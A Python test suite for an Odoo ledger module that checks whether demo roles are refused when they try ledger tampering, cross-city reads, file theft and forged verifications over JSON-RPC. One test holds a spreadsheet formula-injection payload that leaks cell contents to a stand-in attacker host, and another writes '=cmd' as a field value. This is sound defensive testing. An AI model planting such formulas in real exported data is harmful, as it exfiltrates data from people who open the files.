"""Attacks on the ledger over the web client's own JSON-RPC, signed in as the demo roles.

Each test names the threat it covers; each expects a refusal and nothing written."""

import base64
import csv
import io

import openpyxl

from odoo.addons.noproof_catalog.tests.rpc import NoproofRpcCase, RpcRefused
from odoo.tests import tagged

ENTRY = "noproof.ledger.entry"
LOG = "noproof.access.log"
CHAIN = "noproof.ledger.chain"
VERIFICATION = "noproof.ledger.verification"
ANCHOR = "noproof.ledger.anchor"
WIZARD = "noproof.ledger.record.wizard"


@tagged("post_install", "-at_install")
class TestLedgerAttackRpc(NoproofRpcCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.users = {
            login: cls.env["res.users"].search([("login", "=", login)])
            for login in ("np_clerk", "np_office", "np_manager", "lz_office", "lz_clerk", "tz_jiaojiang_office")
        }
        # An entry the Taizhou clerk recorded and reads, and its chain.
        cls.tz_entry = cls.env[ENTRY].with_user(cls.users["np_clerk"]).search([], order="sequence", limit=1).sudo()
        cls.tz_chain = cls.env[CHAIN].search([("company_id", "=", cls.taizhou.id)])
        cls.lz_chain = cls.env[CHAIN].search([("company_id", "=", cls.luzhou.id)])
        cls.lz_entry = cls.env[ENTRY].search([("company_id", "=", cls.luzhou.id)], order="sequence", limit=1)
        cls.env[ANCHOR]._publish()
        assert cls.tz_entry and cls.tz_chain and cls.lz_chain and cls.lz_entry, "the demo ledger is needed"

    def snapshot(self):
        """Everything the ledger keeps, as the database holds it."""
        self.env.flush_all()
        cr = self.env.cr
        tables = {
            "noproof_ledger_entry": "id, sequence, entry_hash, reason, purpose, applicant_id",
            "noproof_access_log": "id, partner_id, res_model, res_id, company_id",
            "noproof_ledger_verification": "id, state, head_hash",
            "noproof_ledger_anchor": "id, sequence, entry_hash",
            "noproof_ledger_chain": "id, last_sequence, last_hash",
        }
        state = {}
        for table, columns in tables.items():
            cr.execute(f"SELECT {columns} FROM {table} ORDER BY id")  # noqa: S608 (constant names)
            state[table] = cr.fetchall()
        cr.execute("SELECT id, res_id, checksum FROM ir_attachment WHERE res_model = %s ORDER BY id", [ENTRY])
        state["attachments"] = cr.fetchall()
        return state

    def assertNothingWritten(self, before):
        self.env.invalidate_all()
        self.assertEqual(self.snapshot(), before)

    def assertEachRefused(self, calls, error=None):
        for model, method, args, kwargs in calls:
            with self.subTest(model=model, method=method):
                self.assertRefused(model, method, args, kwargs, error=error)

    # ------------------------------------------------------------------ T-L1
    def test_ledger_entry_cannot_be_changed_created_or_deleted_over_rpc(self):
        """Threat T-L1 (rewriting the ledger by RPC): no role writes, deletes, creates or duplicates a
        ledger entry through the web client's API."""
        before = self.snapshot()
        for login in ("np_clerk", "np_office", "np_manager", "lz_office"):
            with self.subTest(login=login):
                self.sign_in(login)
                entry_id = self.tz_entry.id
                self.assertEachRefused(
                    [
                        (ENTRY, "write", [[entry_id], {"reason": "Rewritten", "purpose": "=cmd"}], {}),
                        (ENTRY, "unlink", [[entry_id]], {}),
                        (ENTRY, "copy", [[entry_id]], {}),
                        (
                            ENTRY,
                            "create",
                            [[{"entry_type": "correction", "company_id": self.taizhou.id, "sequence": 99}]],
                            {},
                        ),
                    ]
                )
        self.assertNothingWritten(before)

    # ------------------------------------------------------------------ T-L2
    def test_access_log_cannot_be_changed_created_or_deleted_over_rpc(self):
        """Threat T-L2 (erasing the trail of a read): the office that reads the access log can neither
        change nor delete a line, nor add a forged one."""
        log = self.env[LOG].search([("company_id", "=", self.taizhou.id)], limit=1)
        self.assertTrue(log, "the demo access log is needed")
        before = self.snapshot()
        for login in ("np_office", "np_manager", "np_clerk"):
            with self.subTest(login=login):
                self.sign_in(login)
                self.assertEachRefused(
                    [
                        (LOG, "write", [log.ids, {"res_model": "noproof.service.item", "res_id": 1}], {}),
                        (LOG, "unlink", [log.ids], {}),
                        (
                            LOG,
                            "create",
                            [[{"user_id": 1, "company_id": self.taizhou.id, "partner_id": log.partner_id.id}]],
                            {},
                        ),
                    ]
                )
        self.assertNothingWritten(before)

    # ------------------------------------------------------------------ T-L3
    def test_internal_methods_are_not_callable_over_rpc(self):
        """Threat T-L3 (internal API over RPC): record() and the ledger's other internal methods
        (append, head lock, verification, publication, logging, binding) refuse a remote call."""
        before = self.snapshot()
        partner_id = self.tz_entry.applicant_id.id or self.env.ref("noproof_catalog.partner_applicant_zhang").id
        calls = [
            (ENTRY, "record", ["information_use"], {"applicant_name": "x", "purpose": "y"}),
            (ENTRY, "_append", [{"company_id": self.taizhou.id}, []], {}),
            (ENTRY, "_demo_record", [[{"entry_type": "information_use", "applicant_name": "x", "purpose": "y"}]], {}),
            (CHAIN, "_lock_head", [self.taizhou.id], {}),
            (CHAIN, "_verify", [self.tz_chain.ids], {}),
            (CHAIN, "_cron_verify_chains", [], {}),
            (ANCHOR, "_publish", [], {}),
            (ANCHOR, "_latest_for", [self.taizhou.id], {}),
            (LOG, "_log", [[partner_id]], {}),
            (LOG, "_demo_read", [1, [partner_id]], {}),
            ("res.partner", "_noproof_id_number_revealed", [[partner_id], {}, "read"], {}),
            ("ir.attachment", "_noproof_bind", [[], False], {}),
        ]
        for login in ("np_clerk", "np_office", "lz_clerk"):
            with self.subTest(login=login):
                self.sign_in(login)
                for model, method, args, kwargs in calls:
                    with self.subTest(method=method):
                        refusal = self.assertRefused(model, method, args, kwargs, error="AccessError")
                        self.assertIn("cannot be called remotely", refusal.message)
        self.assertNothingWritten(before)

    # ------------------------------------------------------------------ T-L4
    def test_another_citys_chain_cannot_be_verified(self):
        """Threat T-L4 (probing another city's ledger): the Luzhou office cannot run, read or print the
        verification of Taizhou's chain; the Taizhou office verifies its own."""
        before = self.snapshot()
        self.sign_in("lz_office")
        with self.assertRaises(RpcRefused) as caught:
            self.call_button(CHAIN, "action_verify", self.tz_chain.ids)
        self.assertIn("AccessError", caught.exception.name)
        self.assertRefused(CHAIN, "read", [self.tz_chain.ids, ["last_hash"]], error="AccessError")
        tz_verifications = self.env[VERIFICATION].search([("company_id", "=", self.taizhou.id)])
        self.assertFalse(
            self.call_kw(VERIFICATION, "search_read", [[("id", "in", tz_verifications.ids)], ["head_hash"]])
        )
        # The printed extract verifies the chain of the level asked for: refused for another city.
        wizard_id = self.call_kw("noproof.ledger.export.wizard", "create", [{"company_id": self.taizhou.id}])
        with self.assertRaises(RpcRefused):
            self.call_button("noproof.ledger.export.wizard", "action_print_pdf", [wizard_id])
        self.assertEqual(self.snapshot()["noproof_ledger_verification"], before["noproof_ledger_verification"])
        self.sign_in("np_office")
        self.call_button(CHAIN, "action_verify", self.tz_chain.ids)
        self.assertEqual(
            self.env[VERIFICATION].search([("chain_id", "=", self.tz_chain.id)], limit=1).user_id,
            self.users["np_office"],
        )

    def test_verification_results_and_anchors_cannot_be_forged(self):
        """Threat T-L5 (forging a verification or a published head): nobody writes, creates or
        deletes a chain verification or a published chain head over RPC."""
        verification = self.env[VERIFICATION].search([("chain_id", "=", self.tz_chain.id)], limit=1)
        anchor = self.env[ANCHOR]._latest_for(self.taizhou)
        self.assertTrue(verification and anchor)
        before = self.snapshot()
        for login in ("np_office", "np_manager"):
            with self.subTest(login=login):
                self.sign_in(login)
                self.assertEachRefused(
                    [
                        (VERIFICATION, "write", [verification.ids, {"state": "valid", "message": "All fine"}], {}),
                        (VERIFICATION, "unlink", [verification.ids], {}),
                        (VERIFICATION, "create", [[{"chain_id": self.tz_chain.id, "state": "valid"}]], {}),
                        (ANCHOR, "write", [anchor.ids, {"entry_hash": "0" * 64}], {}),
                        (ANCHOR, "unlink", [anchor.ids], {}),
                        (ANCHOR, "create", [[{"company_id": self.taizhou.id, "entry_hash": "0" * 64}]], {}),
                    ]
                )
        self.assertNothingWritten(before)

    # ------------------------------------------------------------------ T-L6
    def test_access_logs_of_another_city_are_not_readable(self):
        """Threat T-L6 (reading who looked at whom elsewhere): the Luzhou office reads only Luzhou's
        access log; a Taizhou line is refused by id, by search and by group."""
        tz_logs = self.env[LOG].search([("company_id", "child_of", self.taizhou.id)])
        lz_logs = self.env[LOG].search([("company_id", "child_of", self.luzhou.id)])
        self.assertTrue(tz_logs and lz_logs, "the demo access log of both cities is needed")
        self.sign_in("lz_office")
        found = self.call_kw(LOG, "search_read", [[], ["partner_name", "company_id"]])
        self.assertEqual({row["id"] for row in found}, set(lz_logs.ids))
        self.assertRefused(LOG, "read", [tz_logs[:1].ids, ["partner_name", "id_number_masked"]], error="AccessError")
        groups = self.call_kw(LOG, "read_group", [[], ["partner_name"], ["partner_name"]], {"lazy": False})
        self.assertEqual(sum(group["__count"] for group in groups), len(lz_logs))
        report = self.call_kw("noproof.access.log.report", "search_read", [[], ["company_id"]])
        self.assertFalse([row for row in report if row["company_id"][0] not in lz_logs.company_id.ids])
        # …and a clerk reads no access log at all.
        self.sign_in("lz_clerk")
        self.assertRefused(LOG, "search_read", [[], ["partner_name"]], error="AccessError")

    # ------------------------------------------------------------------ T-L7
    def test_another_countys_file_cannot_be_attached_to_a_ledger_entry(self):
        """Threat T-L7 (stealing a file through the ledger): a Taizhou clerk links, in the record wizard,
        a file of another level (an upload of the Jiaojiang county office, a file of a Luzhou ledger
        entry) and records: refused, and no entry or attachment is written."""
        Attachment = self.env["ir.attachment"]
        county_upload = Attachment.with_user(self.users["tz_jiaojiang_office"]).create(
            {"name": "signed-commitment-jiaojiang.pdf", "raw": b"%PDF-1.4 signed commitment of another county"}
        )
        luzhou_file = Attachment.create(
            {
                "name": "luzhou-letter.pdf",
                "raw": b"%PDF-1.4 Luzhou letter",
                "res_model": ENTRY,
                "res_id": self.lz_entry.id,
            }
        )
        before = self.snapshot()
        self.sign_in("np_clerk")
        organization_id = self.users["np_clerk"].noproof_organization_ids[:1].id
        for stolen in (county_upload, luzhou_file):
            with self.subTest(file=stolen.name):
                values = {
                    "entry_type": "query_authorization",
                    "organization_id": organization_id,
                    "applicant_name": "张伟",
                    "counterparty": "ICBC",
                    "attachment_ids": [[6, 0, stolen.ids]],
                }
                try:
                    wizard_id = self.call_kw(WIZARD, "create", [values])
                except RpcRefused:
                    continue
                with self.assertRaises(RpcRefused) as caught:
                    self.call_button(WIZARD, "action_record", [wizard_id])
                self.assertIn("AccessError", caught.exception.name)
                self.assertRegex(caught.exception.message, "cannot open yourself|无权打开")
        self.assertNothingWritten(before)
        # The clerk's own upload is recorded with the entry.
        own_id = self.call_kw(
            "ir.attachment", "create", [{"name": "letter.pdf", "datas": base64.b64encode(b"ok").decode()}]
        )
        wizard_id = self.call_kw(
            WIZARD,
            "create",
            [
                {
                    "entry_type": "query_authorization",
                    "organization_id": organization_id,
                    "applicant_name": "张伟",
                    "counterparty": "ICBC",
                    "attachment_ids": [[6, 0, [own_id]]],
                }
            ],
        )
        action = self.call_button(WIZARD, "action_record", [wizard_id])
        self.assertEqual(self.env[ENTRY].browse(action["res_id"]).attachment_ids.mapped("name"), ["letter.pdf"])

    # ------------------------------------------------------------------ T-L8
    def test_ledger_export_neutralizes_formula_cells(self):
        """Threat T-L8 (formula injection): text typed into an entry that a spreadsheet would run as a
        formula is exported by the ledger's CSV and XLSX export as text."""
        self.sign_in("np_clerk")
        organization_id = self.users["np_clerk"].noproof_organization_ids[:1].id
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        wizard_id = self.call_kw(
            WIZARD,
            "create",
            [
                {
                    "entry_type": "information_use",
                    "organization_id": organization_id,
                    "applicant_name": "@SUM(1+1)",
                    "purpose": formula,
                }
            ],
        )
        self.call_button(WIZARD, "action_record", [wizard_id])
        export_id = self.call_kw("noproof.ledger.export.wizard", "create", [{"entry_type": "information_use"}])
        self.call_button("noproof.ledger.export.wizard", "action_export_csv", [export_id])
        data = self.call_kw("noproof.ledger.export.wizard", "read", [[export_id], ["file_data"]])[0]["file_data"]
        rows = list(csv.reader(io.StringIO(base64.b64decode(data).decode("utf-8-sig"))))
        cells = {cell for row in rows[1:] for cell in row}
        self.assertIn("'" + formula, cells)
        self.assertIn("'@SUM(1+1)", cells)
        self.assertFalse([cell for cell in cells if cell.startswith(("=", "@", "+"))])
        self.call_button("noproof.ledger.export.wizard", "action_export_xlsx", [export_id])
        data = self.call_kw("noproof.ledger.export.wizard", "read", [[export_id], ["file_data"]])[0]["file_data"]
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(data))).active
        values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        self.assertTrue(values)
        self.assertFalse([cell.coordinate for cell in values if cell.data_type == "f"])
        self.assertIn("'" + formula, {cell.value for cell in values})
